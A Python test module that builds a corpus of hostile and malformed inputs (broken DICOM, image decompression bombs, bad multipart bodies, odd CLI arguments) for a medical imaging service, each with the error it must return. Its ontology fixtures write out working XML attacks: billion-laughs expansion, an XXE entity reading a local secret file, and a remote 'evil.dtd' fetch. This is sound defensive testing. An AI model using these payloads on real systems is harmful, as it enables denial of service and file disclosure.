"""The bad-input corpus: hostile, broken and unusual inputs, each with what kgdx must answer.

Every :class:`Case` names its kind (``dicom/truncated``), its category (:data:`CATEGORIES`),
its target (an HTTP request, :class:`Http`, or ``kgdx`` arguments, :class:`Cli`), the HTTP
status or exit code it must get, a fragment of the message it must carry (the JSON error
body's ``error.message``, or the ``Error: ...`` line of the CLI; for a case expected to
succeed, a fragment of the answer) and whether it is an unusual-but-valid input.

The files are built here from real building blocks (pydicom for DICOM, starting from
pydicom's own test files where one fits; Pillow for images; the real radiographs of
``tests/data/samples``; real OBO / OWL / TOML text), into a folder, with a ``manifest.json``
that lists the cases. Nothing is committed: the test generates the corpus into a temporary
folder, so there is nothing to drift::

    python -m tests.badinputs.generate --out /tmp/corpus   # files/ + manifest.json

Placeholders in a target are filled by whoever runs a case: ``{file}`` is the case's file,
``{corpus}`` the corpus folder and ``{out}`` a per-case output folder that must not exist
after a failure. Builders that need a data set (training) or a secret to leak (XXE) write
it under ``{corpus}/aux``.
"""

from __future__ import annotations

import argparse
import io
import json
import struct
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Literal

import numpy as np
from PIL import Image

from tests.service import images as im

REPO_ROOT = Path(__file__).resolve().parents[2]
SAMPLES = REPO_ROOT / "tests" / "data" / "samples"
#: The good request of the corpus test: a real radiograph from the NIH set.
GOOD_IMAGE = SAMPLES / "nih_00028490_000.png"

CATEGORIES = ("http", "image", "dicom", "multipart", "ontology", "train-config", "cli-args")

#: Service limits the corpus is written for (the test starts ``kgdx serve`` with them), small
#: so that the oversize cases stay cheap.
SERVICE_SETTINGS = {
    "KGDX_MAX_UPLOAD_BYTES": str(1_000_000),
    "KGDX_MAX_PIXELS": str(1_000_000),
    "KGDX_MIN_IMAGE_SIDE": "16",
    "KGDX_MAX_STOW_BYTES": str(1_000_000),
    "KGDX_MAX_STOW_PARTS": "4",
    # no study job during the test: STOW cases store, nothing is scored behind the scenes
    "KGDX_STABLE_SECONDS": "86400",
}
STOW_BOUNDARY = "kgdx-corpus-7f3a9c"
STOW_TYPE = f'multipart/related; type="application/dicom"; boundary={STOW_BOUNDARY}'
FORM_BOUNDARY = "kgdx-corpus-form-51e2"
#: A line of the file the XXE case points its external entity at; must never be echoed.
SECRET = "kgdx-corpus-secret: root:x:0:0:do-not-leak"


@dataclass(frozen=True)
class Http:
    """One request to the live service.

    Args:
        method: ``GET`` or ``POST``.
        path: path and query string.
        send: ``"file"`` the case file as the multipart field ``file`` (with ``fields``);
            ``"form"`` a multipart body of ``fields`` only; ``"raw"`` the case file is the
            body; ``"none"`` no body.
        auth: the key sent: a scope's key (``"predict"``, ``"ingest"``), or ``"none"``,
            ``"invalid"`` (a well-formed unknown key), ``"basic"`` (HTTP Basic credentials).
        content_type: of the body (``raw``) or of the file part (``file``).
        filename: of the file part (default: the case's file name).
        fields: more form fields, in order.
    """

    method: str
    path: str
    send: Literal["file", "form", "raw", "none"] = "file"
    auth: Literal["predict", "ingest", "none", "invalid", "basic"] = "predict"
    content_type: str | None = None
    filename: str | None = None
    fields: tuple[tuple[str, str], ...] = ()
    type: Literal["http"] = "http"


@dataclass(frozen=True)
class Cli:
    """``kgdx ARGV`` with placeholders ``{file}``, ``{corpus}``, ``{out}``."""

    argv: tuple[str, ...]
    type: Literal["cli"] = "cli"


#: Builds a case's file from the corpus folder: bytes, text (UTF-8) or None (no file).
Builder = Callable[[Path], "bytes | str | None"]


@dataclass(frozen=True)
class Case:
    """One corpus entry.

    Args:
        id: unique, used as the test id and the file name.
        kind: what is wrong (or unusual) with the input, ``category/what``; several cases
            may share a kind.
        target: where it is sent.
        expect: HTTP status, or CLI exit code (1 for errors, 2 for usage errors).
        fragment: must appear in the error message (HTTP ``error.message``, CLI ``Error:``
            line), case-insensitively; for a valid case, in the answer.
        build: makes the file.
        suffix: the file's extension.
        valid: an unusual but valid input, expected to succeed.
        absent: must appear nowhere in the answer (leaked file contents, patient data).
        note: why the case is here, when the kind does not say it.
    """

    id: str
    kind: str
    target: Http | Cli
    expect: int
    fragment: str
    build: Builder = field(repr=False)
    suffix: str = ".bin"
    valid: bool = False
    absent: tuple[str, ...] = ()
    note: str = ""

    @property
    def category(self) -> str:
        return self.kind.split("/", 1)[0]

    def manifest_entry(self) -> dict[str, object]:
        return {
            "id": self.id,
            "kind": self.kind,
            "category": self.category,
            "target": asdict(self.target),
            "expect": self.expect,
            "fragment": self.fragment,
            "valid": self.valid,
            "absent": list(self.absent),
            "note": self.note,
        }


# ---------------------------------------------------------------------------------------------
# Building blocks
# ---------------------------------------------------------------------------------------------


def _none(_: Path) -> None:
    return None


def _const(data: bytes | str) -> Builder:
    return lambda _: data


def _sample_png(_: Path) -> bytes:
    return GOOD_IMAGE.read_bytes()


def _sample_pixels(name: str = "nih_00020751_003.png") -> np.ndarray:
    with Image.open(SAMPLES / name) as image:
        return np.asarray(image.convert("L"))


def _save(image: Image.Image, fmt: str, **params: object) -> bytes:
    buf = io.BytesIO()
    image.save(buf, format=fmt, **params)
    return buf.getvalue()


def _sample_jpeg(_: Path) -> bytes:
    return _save(Image.fromarray(_sample_pixels()), "JPEG", quality=90)


def _cmyk_jpeg(_: Path) -> bytes:
    return _save(Image.fromarray(_sample_pixels()).convert("CMYK"), "JPEG", quality=90)


def _animated_gif(_: Path) -> bytes:
    frames = [Image.fromarray(im.gray_array(48, 64, seed=s)) for s in range(3)]
    return _save(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=50)


def _float_tiff_with_infinities(_: Path) -> bytes:
    values = _sample_pixels().astype(np.float32) / 255.0
    values[:, ::7] = np.inf
    return _save(Image.fromarray(values), "TIFF")


def _testdata(name: str) -> Builder:
    return lambda _: im.testdata_dicom_bytes(name)


def _dicom(**kwargs: object) -> Builder:
    return lambda _: im.dicom_bytes(**kwargs)  # type: ignore[arg-type]


def _radiograph_dicom(_: Path) -> bytes:
    """The sample radiograph as a 12-bit DX with a window, as a modality would send it."""
    pixels = (_sample_pixels().astype(np.uint16) * 16).astype(np.uint16)
    return im.write_dicom(im.dicom_dataset(pixels, bits=12, window=(2048.0, 4096.0)))


def _patched(data: bytes, old: bytes, new: bytes) -> bytes:
    """``data`` with the one occurrence of ``old`` replaced by ``new`` of the same length."""
    if len(old) != len(new) or data.count(old) != 1:
        raise ValueError(f"cannot patch {old!r}: lengths differ or not exactly one match")
    return data.replace(old, new)


def _bad_value(keyword: str, good: str, bad: bytes) -> Builder:
    """A DX whose ``keyword`` holds ``bad``, a value its VR does not allow (pydicom refuses
    to write one, so a valid value is written and its bytes patched)."""

    def build(_: Path) -> bytes:
        ds = im.dicom_dataset(rows=64, columns=64, bits=12)
        setattr(ds, keyword, good)
        if keyword.startswith("Window"):
            ds.WindowWidth = ds.get("WindowWidth", "400")
        if keyword.startswith("Rescale"):
            ds.RescaleIntercept = ds.get("RescaleIntercept", "0")
        return _patched(im.write_dicom(ds), good.encode(), bad)

    return build


def _unknown_vr(_: Path) -> bytes:
    """The Rows element's explicit VR code replaced by ``ZZ``, which no standard defines."""
    data = im.dicom_bytes(rows=32, columns=32)
    return _patched(data, b"\x28\x00\x10\x00US", b"\x28\x00\x10\x00ZZ")


def _with_transfer_syntax(uid: str, **kwargs: object) -> Builder:
    """A DX whose file meta claims ``uid`` (group length fixed up) over native pixels."""

    def build(_: Path) -> bytes:
        data = bytearray(im.dicom_bytes(rows=32, columns=32, **kwargs))  # type: ignore[arg-type]
        at = data.find(b"\x02\x00\x10\x00UI")
        old_len = struct.unpack("<H", data[at + 6 : at + 8])[0]
        value = uid.encode("ascii") + (b"\x00" if len(uid) % 2 else b"")
        data[at + 6 : at + 8 + old_len] = struct.pack("<H", len(value)) + value
        group = data.find(b"\x02\x00\x00\x00UL")
        total = struct.unpack("<I", data[group + 8 : group + 12])[0]
        data[group + 8 : group + 12] = struct.pack("<I", total + len(value) - old_len)
        return bytes(data)

    return build


def _inconsistent(how: str) -> Builder:
    return lambda _: im.inconsistent_dicom_bytes(how)


def _dicom_attrs(**attrs: object) -> Builder:
    def build(_: Path) -> bytes:
        ds = im.dicom_dataset(rows=64, columns=64, bits=12)
        for key, value in attrs.items():
            setattr(ds, key, value)
        return im.write_dicom(ds)

    return build


def _dicom_without_pixels(_: Path) -> bytes:
    ds = im.dicom_dataset(rows=64, columns=64)
    del ds.PixelData
    return im.write_dicom(ds)


def _rle_truncated(_: Path) -> bytes:
    ds = im.dicom_dataset(rows=32, columns=32, compression="rle")
    ds.PixelData = ds.PixelData[:40]
    return im.write_dicom(ds)


# -- multipart ---------------------------------------------------------------------------------


def _part(data: bytes, content_type: str | None = "application/dicom") -> bytes:
    head = f"--{STOW_BOUNDARY}\r\n"
    if content_type is not None:
        head += f"Content-Type: {content_type}\r\n"
    return head.encode() + b"\r\n" + data + b"\r\n"


def _body(*parts: bytes, close: bool = True) -> bytes:
    return b"".join(parts) + (f"--{STOW_BOUNDARY}--\r\n".encode() if close else b"")


def _stow(*parts: Callable[[], bytes], close: bool = True) -> Builder:
    return lambda _: _body(*(p() for p in parts), close=close)


def _good_part() -> bytes:
    return _part(im.dicom_bytes(rows=32, columns=32))


def _dicom_without_uids() -> bytes:
    ds = im.dicom_dataset(rows=32, columns=32)
    del ds.SOPInstanceUID
    del ds.StudyInstanceUID
    return _part(im.write_dicom(ds))


def _unterminated_form(_: Path) -> bytes:
    """A form upload of the sample radiograph that stops before its closing boundary."""
    head = (
        f"--{FORM_BOUNDARY}\r\n"
        'Content-Disposition: form-data; name="file"; filename="cut.png"\r\n'
        "Content-Type: image/png\r\n\r\n"
    )
    return head.encode() + GOOD_IMAGE.read_bytes()


# -- ontologies ----------------------------------------------------------------------------------

OBO_HEADER = "format-version: 1.4\nontology: corpus\n\n"
OBO = (
    OBO_HEADER
    + "[Term]\nid: C:1\nname: Lung opacity\n\n"
    + "[Term]\nid: C:2\nname: Consolidation\nis_a: C:1 ! Lung opacity\n"
    + 'synonym: "Airspace consolidation" EXACT []\n\n'
    + "[Term]\nid: C:3\nname: Pneumonia\n"
    + 'relationship: suggests C:2 {weight="0.5"}\n'
)
OBO_LATIN1 = OBO.replace("Pneumonia", "Pneumonie (légère)")
CYCLE_OBO = (
    OBO_HEADER
    + "[Term]\nid: A:1\nis_a: A:3\n\n[Term]\nid: A:2\nis_a: A:1\n\n"
    + ("[Term]\nid: A:3\nis_a: A:2\n")
)
DANGLING_OBO = OBO_HEADER + "[Term]\nid: A:1\nname: one\nis_a: A:9 ! never defined\n"
RDF_OPEN = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
    'xmlns:rdfs="http://www.w3.org/2000/01/rdf-schema#" '
    'xmlns:owl="http://www.w3.org/2002/07/owl#">'
)
OWL = (
    '<?xml version="1.0" encoding="{encoding}"?>\n'
    + RDF_OPEN
    + '\n  <owl:Class rdf:about="http://purl.obolibrary.org/obo/C_1">'
    + "<rdfs:label>Lung opacity</rdfs:label></owl:Class>\n"
    + '  <owl:Class rdf:about="http://purl.obolibrary.org/obo/C_2">'
    + "<rdfs:label>Consolidation</rdfs:label>"
    + '<rdfs:subClassOf rdf:resource="http://purl.obolibrary.org/obo/C_1"/></owl:Class>\n'
    + "</rdf:RDF>\n"
)
_LOL = "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">\n' for i in range(1, 10))
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol0 "lol">\n'
    + _LOL
    + "]>\n"
    + RDF_OPEN
    + '\n  <owl:Class rdf:about="http://purl.obolibrary.org/obo/X_1">'
    + "<rdfs:label>&lol9;</rdfs:label></owl:Class>\n</rdf:RDF>\n"
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE rdf:RDF [ <!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote; ]>\n'
    + RDF_OPEN
    + "</rdf:RDF>\n"
)


def _xxe(corpus: Path) -> str:
    """An OWL file whose external entity names a local file holding :data:`SECRET`."""
    secret = corpus / "aux" / "secret.txt"
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_text(SECRET + "\n")
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE rdf:RDF [ <!ENTITY xxe SYSTEM "{secret.as_uri()}"> ]>\n'
        + RDF_OPEN
        + '\n  <owl:Class rdf:about="http://purl.obolibrary.org/obo/X_1">'
        + "<rdfs:label>&xxe;</rdfs:label></owl:Class>\n</rdf:RDF>\n"
    )


def _random_bytes(n: int, seed: int = 0) -> Builder:
    return lambda _: np.random.default_rng(seed).integers(0, 256, n, dtype=np.uint8).tobytes()


def _repo_file(relative: str) -> Builder:
    return lambda _: (REPO_ROOT / relative).read_bytes()


# -- training configs ----------------------------------------------------------------------------


TINY_OBO = (
    "format-version: 1.2\nontology: tiny\n\n"
    "[Term]\nid: X:finding\nname: Lung finding\n\n"
    "[Term]\nid: X:opacity\nname: Pulmonary opacity\nis_a: X:finding\n\n"
    "[Term]\nid: X:consolidation\nname: Consolidation\nis_a: X:opacity\n"
    "relationship: suggests X:pneumonia\n\n"
    "[Term]\nid: X:effusion\nname: Pleural effusion\nis_a: X:finding\n\n"
    "[Term]\nid: X:pneumonia\nname: Pneumonia\n"
)
LABEL_MAP = "label,concept_id\nConsolidation,X:consolidation\nEffusion,X:effusion\n"


def _train_setup(corpus: Path) -> dict[str, Path]:
    """A tiny training set-up under ``aux/train`` (made once per corpus): six 40 px PNGs of
    two patients, a labels CSV in the cxr ``labels.csv`` layout with a train and a val
    patient, a 5-concept OBO file and a label map."""
    root = corpus / "aux" / "train"
    paths = {
        "labels": root / "labels.csv",
        "images": root / "images",
        "ontology": root / "tiny.obo",
        "label_map": root / "label_map.csv",
        "root": root,
    }
    if paths["labels"].is_file():
        return paths
    paths["images"].mkdir(parents=True, exist_ok=True)
    rows = ["image,patient_id,source,Consolidation,Effusion,labeled_findings,split"]
    for i in range(6):
        name = f"img_{i}.png"
        (paths["images"] / name).write_bytes(im.png_bytes(width=40, height=40, seed=i))
        split = "train" if i < 3 else "val"
        rows.append(f"{name},p{i // 3},synthetic,{i % 2},{(i + 1) % 2},ALL,{split}")
    paths["labels"].write_text("\n".join(rows) + "\n")
    paths["ontology"].write_text(TINY_OBO)
    paths["label_map"].write_text(LABEL_MAP)
    return paths


def _toml(
    *, data: str = "", ontology: str = "", train: str = "", extra: str = ""
) -> Callable[[Path], str]:
    """A training config on the tiny set-up; each table gets the given extra lines."""

    def build(corpus: Path) -> str:
        s = _train_setup(corpus)
        return (
            "[data]\n"
            f"labels = {json.dumps(str(s['labels']))}\n"
            f"images = {json.dumps(str(s['images']))}\n"
            'label_names = ["Consolidation", "Effusion"]\n'
            "label_fraction = 1.0\n"
            f"{data}"
            "[ontology]\n"
            f"spec = {json.dumps(str(s['ontology']))}\n"
            f"label_map = {json.dumps(str(s['label_map']))}\n"
            f"{ontology}"
            '[train]\nepochs = 1\ndevice = "cpu"\n'
            f"{train}"
            f"{extra}"
        )

    return build


def _toml_header_only_labels(corpus: Path) -> str:
    s = _train_setup(corpus)
    empty = s["root"] / "empty_labels.csv"
    empty.write_text(s["labels"].read_text().splitlines()[0] + "\n")
    return _toml()(corpus).replace(json.dumps(str(s["labels"])), json.dumps(str(empty)), 1)


# ---------------------------------------------------------------------------------------------
# The cases
# ---------------------------------------------------------------------------------------------

PREDICT = "/v1/predict"
UNKNOWN_ID = "0" * 32  # shaped like a result id, never issued
STOW = "/dicomweb/studies"


def _predict(**kw: object) -> Http:
    return Http("POST", PREDICT, **kw)  # type: ignore[arg-type]


def _get(path: str, auth: str = "predict") -> Http:
    return Http("GET", path, send="none", auth=auth)  # type: ignore[arg-type]


def _stow_target(content_type: str | None = STOW_TYPE, path: str = STOW) -> Http:
    return Http("POST", path, send="raw", auth="ingest", content_type=content_type)


def _load(*extra: str) -> Cli:
    return Cli(("ontology", "load", "{file}", *extra))


def _train(*extra: str) -> Cli:
    return Cli(("train", "--config", "{file}", "--out", "{out}", "--quiet", *extra))


PHI = (im.PATIENT_NAME, im.PATIENT_ID)
_VALID_PNG = im.png_bytes()

CASES: tuple[Case, ...] = (
    # -- HTTP bodies, options, routes and keys ------------------------------------------------
    Case(
        "no-file-field",
        "http/no-file-field",
        _predict(send="form", fields=(("text", "cough"),)),
        422,
        "file: field required",
        _none,
    ),
    Case(
        "empty-file",
        "http/empty-file",
        _predict(content_type="image/png"),
        422,
        "empty file",
        _const(b""),
        ".png",
    ),
    Case(
        "raw-png-body",
        "http/not-multipart",
        _predict(send="raw", content_type="image/png"),
        415,
        "send the image as multipart/form-data",
        _sample_png,
        ".png",
        note="the image as the body, not a multipart field",
    ),
    Case(
        "no-content-type",
        "http/no-content-type",
        _predict(send="raw"),
        415,
        "not no Content-Type",
        _sample_png,
        ".png",
    ),
    Case(
        "urlencoded-form",
        "http/urlencoded-form",
        _predict(send="raw", content_type="application/x-www-form-urlencoded"),
        415,
        "'application/x-www-form-urlencoded'",
        _const("file=iVBORw0KGgo%3D&text=cough"),
        ".txt",
    ),
    Case(
        "json-body",
        "http/json-instead-of-multipart",
        _predict(send="raw", content_type="application/json"),
        415,
        "not 'application/json'",
        _const(b'{"file": "iVBORw0KGgo=", "text": "cough"}'),
        ".json",
    ),
    Case(
        "form-no-boundary",
        "http/multipart-without-boundary",
        _predict(send="raw", content_type="multipart/form-data"),
        400,
        "missing boundary",
        _const(b'--b\r\nContent-Disposition: form-data; name="file"\r\n\r\nx\r\n--b--\r\n'),
        ".txt",
    ),
    Case(
        "form-garbage",
        "http/multipart-garbage",
        _predict(send="raw", content_type=f"multipart/form-data; boundary={FORM_BOUNDARY}"),
        400,
        "invalid multipart data",
        _random_bytes(2000, seed=1),
    ),
    Case(
        "form-unterminated",
        "http/multipart-unterminated",
        _predict(send="raw", content_type=f"multipart/form-data; boundary={FORM_BOUNDARY}"),
        422,
        "file: field required",
        _unterminated_form,
        ".txt",
        note="Starlette drops a part without its closing boundary: the form lacks 'file'",
    ),
    Case(
        "file-field-is-text",
        "http/file-field-not-a-file",
        _predict(send="form", fields=(("file", "iVBORw0KGgo="),)),
        422,
        "expected a file upload",
        _none,
    ),
    Case(
        "threshold-2",
        "http/option-out-of-range",
        _predict(fields=(("threshold", "2"),)),
        422,
        "threshold",
        _sample_png,
        ".png",
    ),
    Case(
        "top-k-negative",
        "http/option-out-of-range",
        _predict(fields=(("top_k_paths", "-1"),)),
        422,
        "top_k_paths",
        _sample_png,
        ".png",
    ),
    Case(
        "threshold-not-a-number",
        "http/option-not-a-number",
        _predict(fields=(("threshold", "high"),)),
        422,
        "threshold",
        _sample_png,
        ".png",
    ),
    Case(
        "heatmap-not-bool",
        "http/option-not-a-bool",
        _predict(fields=(("heatmap", "maybe"),)),
        422,
        "heatmap",
        _sample_png,
        ".png",
    ),
    Case(
        "text-too-long",
        "http/text-too-long",
        _predict(fields=(("text", "cough " * 1000),)),
        422,
        "text",
        _sample_png,
        ".png",
    ),
    Case(
        "unknown-concept",
        "http/unknown-concept-id",
        _get("/v1/concepts/NOPE:0000000"),
        404,
        "unknown concept id",
        _none,
    ),
    Case(
        "paths-unknown-concepts",
        "http/unknown-concept-id",
        _get("/v1/paths?from=NOPE:1&to=NOPE:2"),
        404,
        "NOPE:1",
        _none,
    ),
    Case(
        "paths-max-hops-99",
        "http/bad-query-param",
        _get("/v1/paths?from=NOPE:1&to=NOPE:2&max_hops=99"),
        422,
        "max_hops",
        _none,
    ),
    Case(
        "paths-missing-to",
        "http/missing-query-param",
        _get("/v1/paths?from=NOPE:1"),
        422,
        "to: field required",
        _none,
    ),
    Case(
        "study-uid-not-a-uid",
        "http/bad-path-param",
        _get("/v1/studies/not-a-uid"),
        422,
        "study_uid",
        _none,
    ),
    Case(
        "result-unknown",
        "http/unknown-result-id",
        _get(f"/v1/results/{UNKNOWN_ID}"),
        404,
        "no result with id",
        _none,
    ),
    Case(
        "overlay-unknown-result",
        "http/unknown-result-id",
        _get(f"/v1/results/{UNKNOWN_ID}/overlay.png?finding=Consolidation"),
        404,
        "no result with id",
        _none,
    ),
    Case(
        "qido-limit-not-a-number",
        "http/bad-query-param",
        _get("/dicomweb/studies?limit=lots", auth="ingest"),
        400,
        "limit must be an integer",
        _none,
    ),
    Case(
        "missing-key",
        "http/missing-api-key",
        _predict(auth="none"),
        401,
        "API key",
        _sample_png,
        ".png",
    ),
    Case(
        "unknown-key",
        "http/unknown-api-key",
        _predict(auth="invalid"),
        401,
        "API key",
        _sample_png,
        ".png",
    ),
    Case(
        "basic-auth",
        "http/wrong-auth-scheme",
        _predict(auth="basic"),
        401,
        "API key",
        _sample_png,
        ".png",
    ),
    Case(
        "ingest-key-on-predict",
        "http/wrong-scope",
        _predict(auth="ingest"),
        403,
        "predict",
        _sample_png,
        ".png",
    ),
    Case(
        "predict-key-on-stow",
        "http/wrong-scope",
        Http("POST", STOW, send="raw", auth="predict", content_type=STOW_TYPE),
        403,
        "ingest",
        _stow(_good_part),
    ),
    Case(
        "upload-over-limit",
        "http/oversized-upload",
        _predict(content_type="image/png"),
        413,
        "larger than",
        lambda _: _VALID_PNG + b"\0" * 1_100_000,
        ".png",
    ),
    Case("get-predict", "http/method-not-allowed", _get(PREDICT), 405, "method not allowed", _none),
    Case("unknown-route", "http/unknown-route", _get("/v1/nothing-here"), 404, "not found", _none),
    Case(
        "many-form-fields",
        "http/too-many-form-fields",
        _predict(fields=tuple((f"f{i}", "x") for i in range(1200))),
        400,
        "too many fields",
        _sample_png,
        ".png",
    ),
    Case(
        "ontologies",
        "http/valid-request",
        _get("/v1/ontologies"),
        200,
        '"serving":true',
        _none,
        valid=True,
    ),
    Case(
        "options-at-the-edges",
        "http/valid-options",
        _predict(
            fields=(("threshold", "0"), ("top_k_paths", "0"), ("heatmap", "false"), ("text", "  "))
        ),
        200,
        '"findings"',
        _sample_png,
        ".png",
        valid=True,
        note="threshold 0, no paths, no heat map, a blank indication",
    ),
    # -- images ---------------------------------------------------------------------------------
    Case(
        "truncated-png",
        "image/truncated-png",
        _predict(),
        422,
        "PNG",
        lambda _: im.truncated(_sample_png(_), 0.5),
        ".png",
    ),
    Case(
        "truncated-jpeg",
        "image/truncated-jpeg",
        _predict(),
        422,
        "JPEG",
        lambda _: _sample_jpeg(_)[:300],
        ".jpg",
    ),
    Case(
        "corrupt-png",
        "image/corrupt-png-stream",
        _predict(),
        422,
        "corrupt PNG",
        lambda _: im.corrupt_png(),
        ".png",
    ),
    Case(
        "text-file",
        "image/text-file",
        _predict(content_type="image/png"),
        415,
        "unsupported file",
        lambda _: im.non_image_bytes("text"),
        ".png",
    ),
    Case(
        "pdf-file",
        "image/pdf",
        _predict(content_type="application/pdf"),
        415,
        "a PDF document",
        lambda _: im.non_image_bytes("pdf"),
        ".pdf",
    ),
    Case(
        "raw-jpeg2000",
        "image/bare-jpeg2000",
        _predict(),
        415,
        "JPEG 2000",
        _const(b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00" * 64),
        ".jp2",
    ),
    Case(
        "png-bomb",
        "image/decompression-bomb",
        _predict(),
        413,
        "pixels",
        lambda _: im.bomb_png(),
        ".png",
        note="10^10 pixels declared in a 100-byte PNG",
    ),
    Case(
        "jpeg-bomb",
        "image/decompression-bomb",
        _predict(),
        413,
        "pixels",
        lambda _: im.bomb_jpeg(),
        ".jpg",
    ),
    Case(
        "png-over-pixel-limit",
        "image/over-pixel-limit",
        _predict(),
        413,
        "pixels",
        lambda _: im.large_png_bytes(1100, 1000),
        ".png",
        note="real pixels, small file",
    ),
    Case(
        "png-1x1",
        "image/too-small",
        _predict(),
        422,
        "image too small",
        lambda _: im.png_bytes(width=1, height=1),
        ".png",
    ),
    Case(
        "png-2000x8",
        "image/too-small",
        _predict(),
        422,
        "image too small",
        lambda _: im.png_bytes(width=2000, height=8),
        ".png",
    ),
    Case(
        "radiograph-jpeg",
        "image/real-radiograph-jpeg",
        _predict(),
        200,
        '"kind":"jpeg"',
        _sample_jpeg,
        ".jpg",
        valid=True,
    ),
    Case(
        "png-16bit",
        "image/16-bit-png",
        _predict(),
        200,
        "16-bit",
        lambda _: im.png16_bytes(),
        ".png",
        valid=True,
    ),
    Case(
        "png-rgba",
        "image/rgba-png",
        _predict(),
        200,
        '"kind":"png"',
        lambda _: im.rgba_png_bytes(),
        ".png",
        valid=True,
    ),
    Case(
        "png-palette",
        "image/palette-png",
        _predict(),
        200,
        '"kind":"png"',
        lambda _: im.palette_png_bytes(),
        ".png",
        valid=True,
    ),
    Case(
        "jpeg-cmyk",
        "image/cmyk-jpeg",
        _predict(),
        200,
        '"kind":"jpeg"',
        _cmyk_jpeg,
        ".jpg",
        valid=True,
    ),
    Case(
        "jpeg-exif-rotated",
        "image/exif-orientation",
        _predict(),
        200,
        "EXIF orientation",
        lambda _: im.jpeg_bytes(exif_orientation=6),
        ".jpg",
        valid=True,
    ),
    Case(
        "gif-animated",
        "image/animated-gif",
        _predict(),
        200,
        "multi-frame GIF",
        _animated_gif,
        ".gif",
        valid=True,
    ),
    Case(
        "tiff",
        "image/tiff",
        _predict(),
        200,
        '"kind":"tiff"',
        lambda _: im.image_bytes("TIFF", mode="RGB"),
        ".tif",
        valid=True,
    ),
    Case(
        "tiff-float-infinite",
        "image/float-with-infinities",
        _predict(),
        200,
        "float image scaled",
        _float_tiff_with_infinities,
        ".tif",
        valid=True,
        note="a 32-bit float TIFF with +inf pixels: they become 0, as in float DICOM",
    ),
    Case(
        "png-labelled-dicom",
        "image/mislabelled",
        _predict(content_type="application/dicom", filename="scan.dcm"),
        200,
        "does not match",
        _sample_png,
        ".png",
        valid=True,
        note="the bytes decide; the content type and extension only make a note",
    ),
    Case(
        "png-16x1024",
        "image/extreme-aspect-ratio",
        _predict(),
        200,
        '"kind":"png"',
        lambda _: im.png_bytes(width=16, height=1024),
        ".png",
        valid=True,
    ),
    # -- DICOM ------------------------------------------------------------------------------------
    Case(
        "dicom-truncated-pixels",
        "dicom/truncated",
        _predict(),
        422,
        "truncated file",
        lambda _: im.truncated(im.dicom_bytes(), 0.6),
        ".dcm",
        absent=PHI,
    ),
    Case(
        "dicom-truncated-header",
        "dicom/truncated",
        _predict(),
        422,
        "truncated or corrupt DICOM",
        lambda _: im.dicom_bytes()[:300],
        ".dcm",
        absent=PHI,
    ),
    Case(
        "dicom-pydicom-mr-truncated",
        "dicom/truncated",
        _predict(),
        422,
        "Pixel Data holds",
        _testdata("MR_truncated.dcm"),
        ".dcm",
    ),
    Case(
        "dicom-sr-no-pixels",
        "dicom/no-pixel-data",
        _predict(),
        422,
        "no pixel data",
        lambda _: im.no_pixel_dicom_bytes(),
        ".dcm",
        absent=PHI,
    ),
    Case(
        "dicom-dx-no-pixels",
        "dicom/no-pixel-data",
        _predict(),
        422,
        "no pixel data",
        _dicom_without_pixels,
        ".dcm",
        absent=PHI,
    ),
    Case(
        "dicom-rows-too-large",
        "dicom/inconsistent-sizes",
        _predict(),
        422,
        "inconsistent DICOM",
        _inconsistent("rows"),
        ".dcm",
        absent=PHI,
    ),
    Case(
        "dicom-columns-too-small",
        "dicom/inconsistent-sizes",
        _predict(),
        422,
        "inconsistent DICOM",
        _inconsistent("columns_smaller"),
        ".dcm",
    ),
    Case(
        "dicom-frames-too-many",
        "dicom/inconsistent-sizes",
        _predict(),
        422,
        "inconsistent DICOM",
        _inconsistent("frames"),
        ".dcm",
    ),
    Case(
        "dicom-bits-allocated-32",
        "dicom/inconsistent-sizes",
        _predict(),
        422,
        "inconsistent DICOM",
        _inconsistent("bits"),
        ".dcm",
    ),
    Case(
        "dicom-rows-zero",
        "dicom/zero-size",
        _predict(),
        422,
        "Rows 0",
        _dicom_attrs(Rows=0),
        ".dcm",
    ),
    Case(
        "dicom-pydicom-badvr",
        "dicom/bad-vr-value",
        _predict(),
        422,
        "NumberOfFrames is not an integer",
        _testdata("badVR.dcm"),
        ".dcm",
        note="pydicom's badVR.dcm: Number of Frames (IS) is '1A'",
    ),
    Case(
        "dicom-rescale-slope-text",
        "dicom/bad-vr-value",
        _predict(),
        422,
        "Rescale Slope",
        _bad_value("RescaleSlope", "1.25", b"x.yz"),
        ".dcm",
    ),
    Case(
        "dicom-rescale-overflow",
        "dicom/overflowing-rescale",
        _predict(),
        422,
        "NaN or infinite pixel values",
        _dicom(bits=12, rescale=(1e308, 1e308), window=(1.0, 1e308)),
        ".dcm",
        note="Rescale Slope and Intercept 1e308: the values overflow to infinity",
    ),
    Case(
        "dicom-bits-stored-20",
        "dicom/bad-pixel-module",
        _predict(),
        422,
        "Bits Stored",
        _dicom_attrs(BitsStored=20),
        ".dcm",
    ),
    Case(
        "dicom-photometric-bogus",
        "dicom/bad-pixel-module",
        _predict(),
        422,
        "Photometric Interpretation",
        _dicom_attrs(PhotometricInterpretation="BOGUS"),
        ".dcm",
    ),
    Case(
        "dicom-unknown-vr-code",
        "dicom/unknown-vr",
        _predict(),
        422,
        "cannot decode the DICOM image",
        _unknown_vr,
        ".dcm",
    ),
    Case(
        "dicom-unknown-transfer-syntax",
        "dicom/unknown-transfer-syntax",
        _predict(),
        422,
        "unsupported DICOM transfer syntax",
        _with_transfer_syntax("1.2.3.4.5.6.7.8.9"),
        ".dcm",
    ),
    Case(
        "dicom-mpeg2",
        "dicom/unsupported-transfer-syntax",
        _predict(),
        422,
        "MPEG2",
        lambda _: im.unsupported_syntax_dicom_bytes(),
        ".dcm",
    ),
    Case(
        "dicom-native-labelled-jpeg",
        "dicom/transfer-syntax-mismatch",
        _predict(),
        422,
        "cannot decode DICOM pixel data",
        _with_transfer_syntax("1.2.840.10008.1.2.4.50"),
        ".dcm",
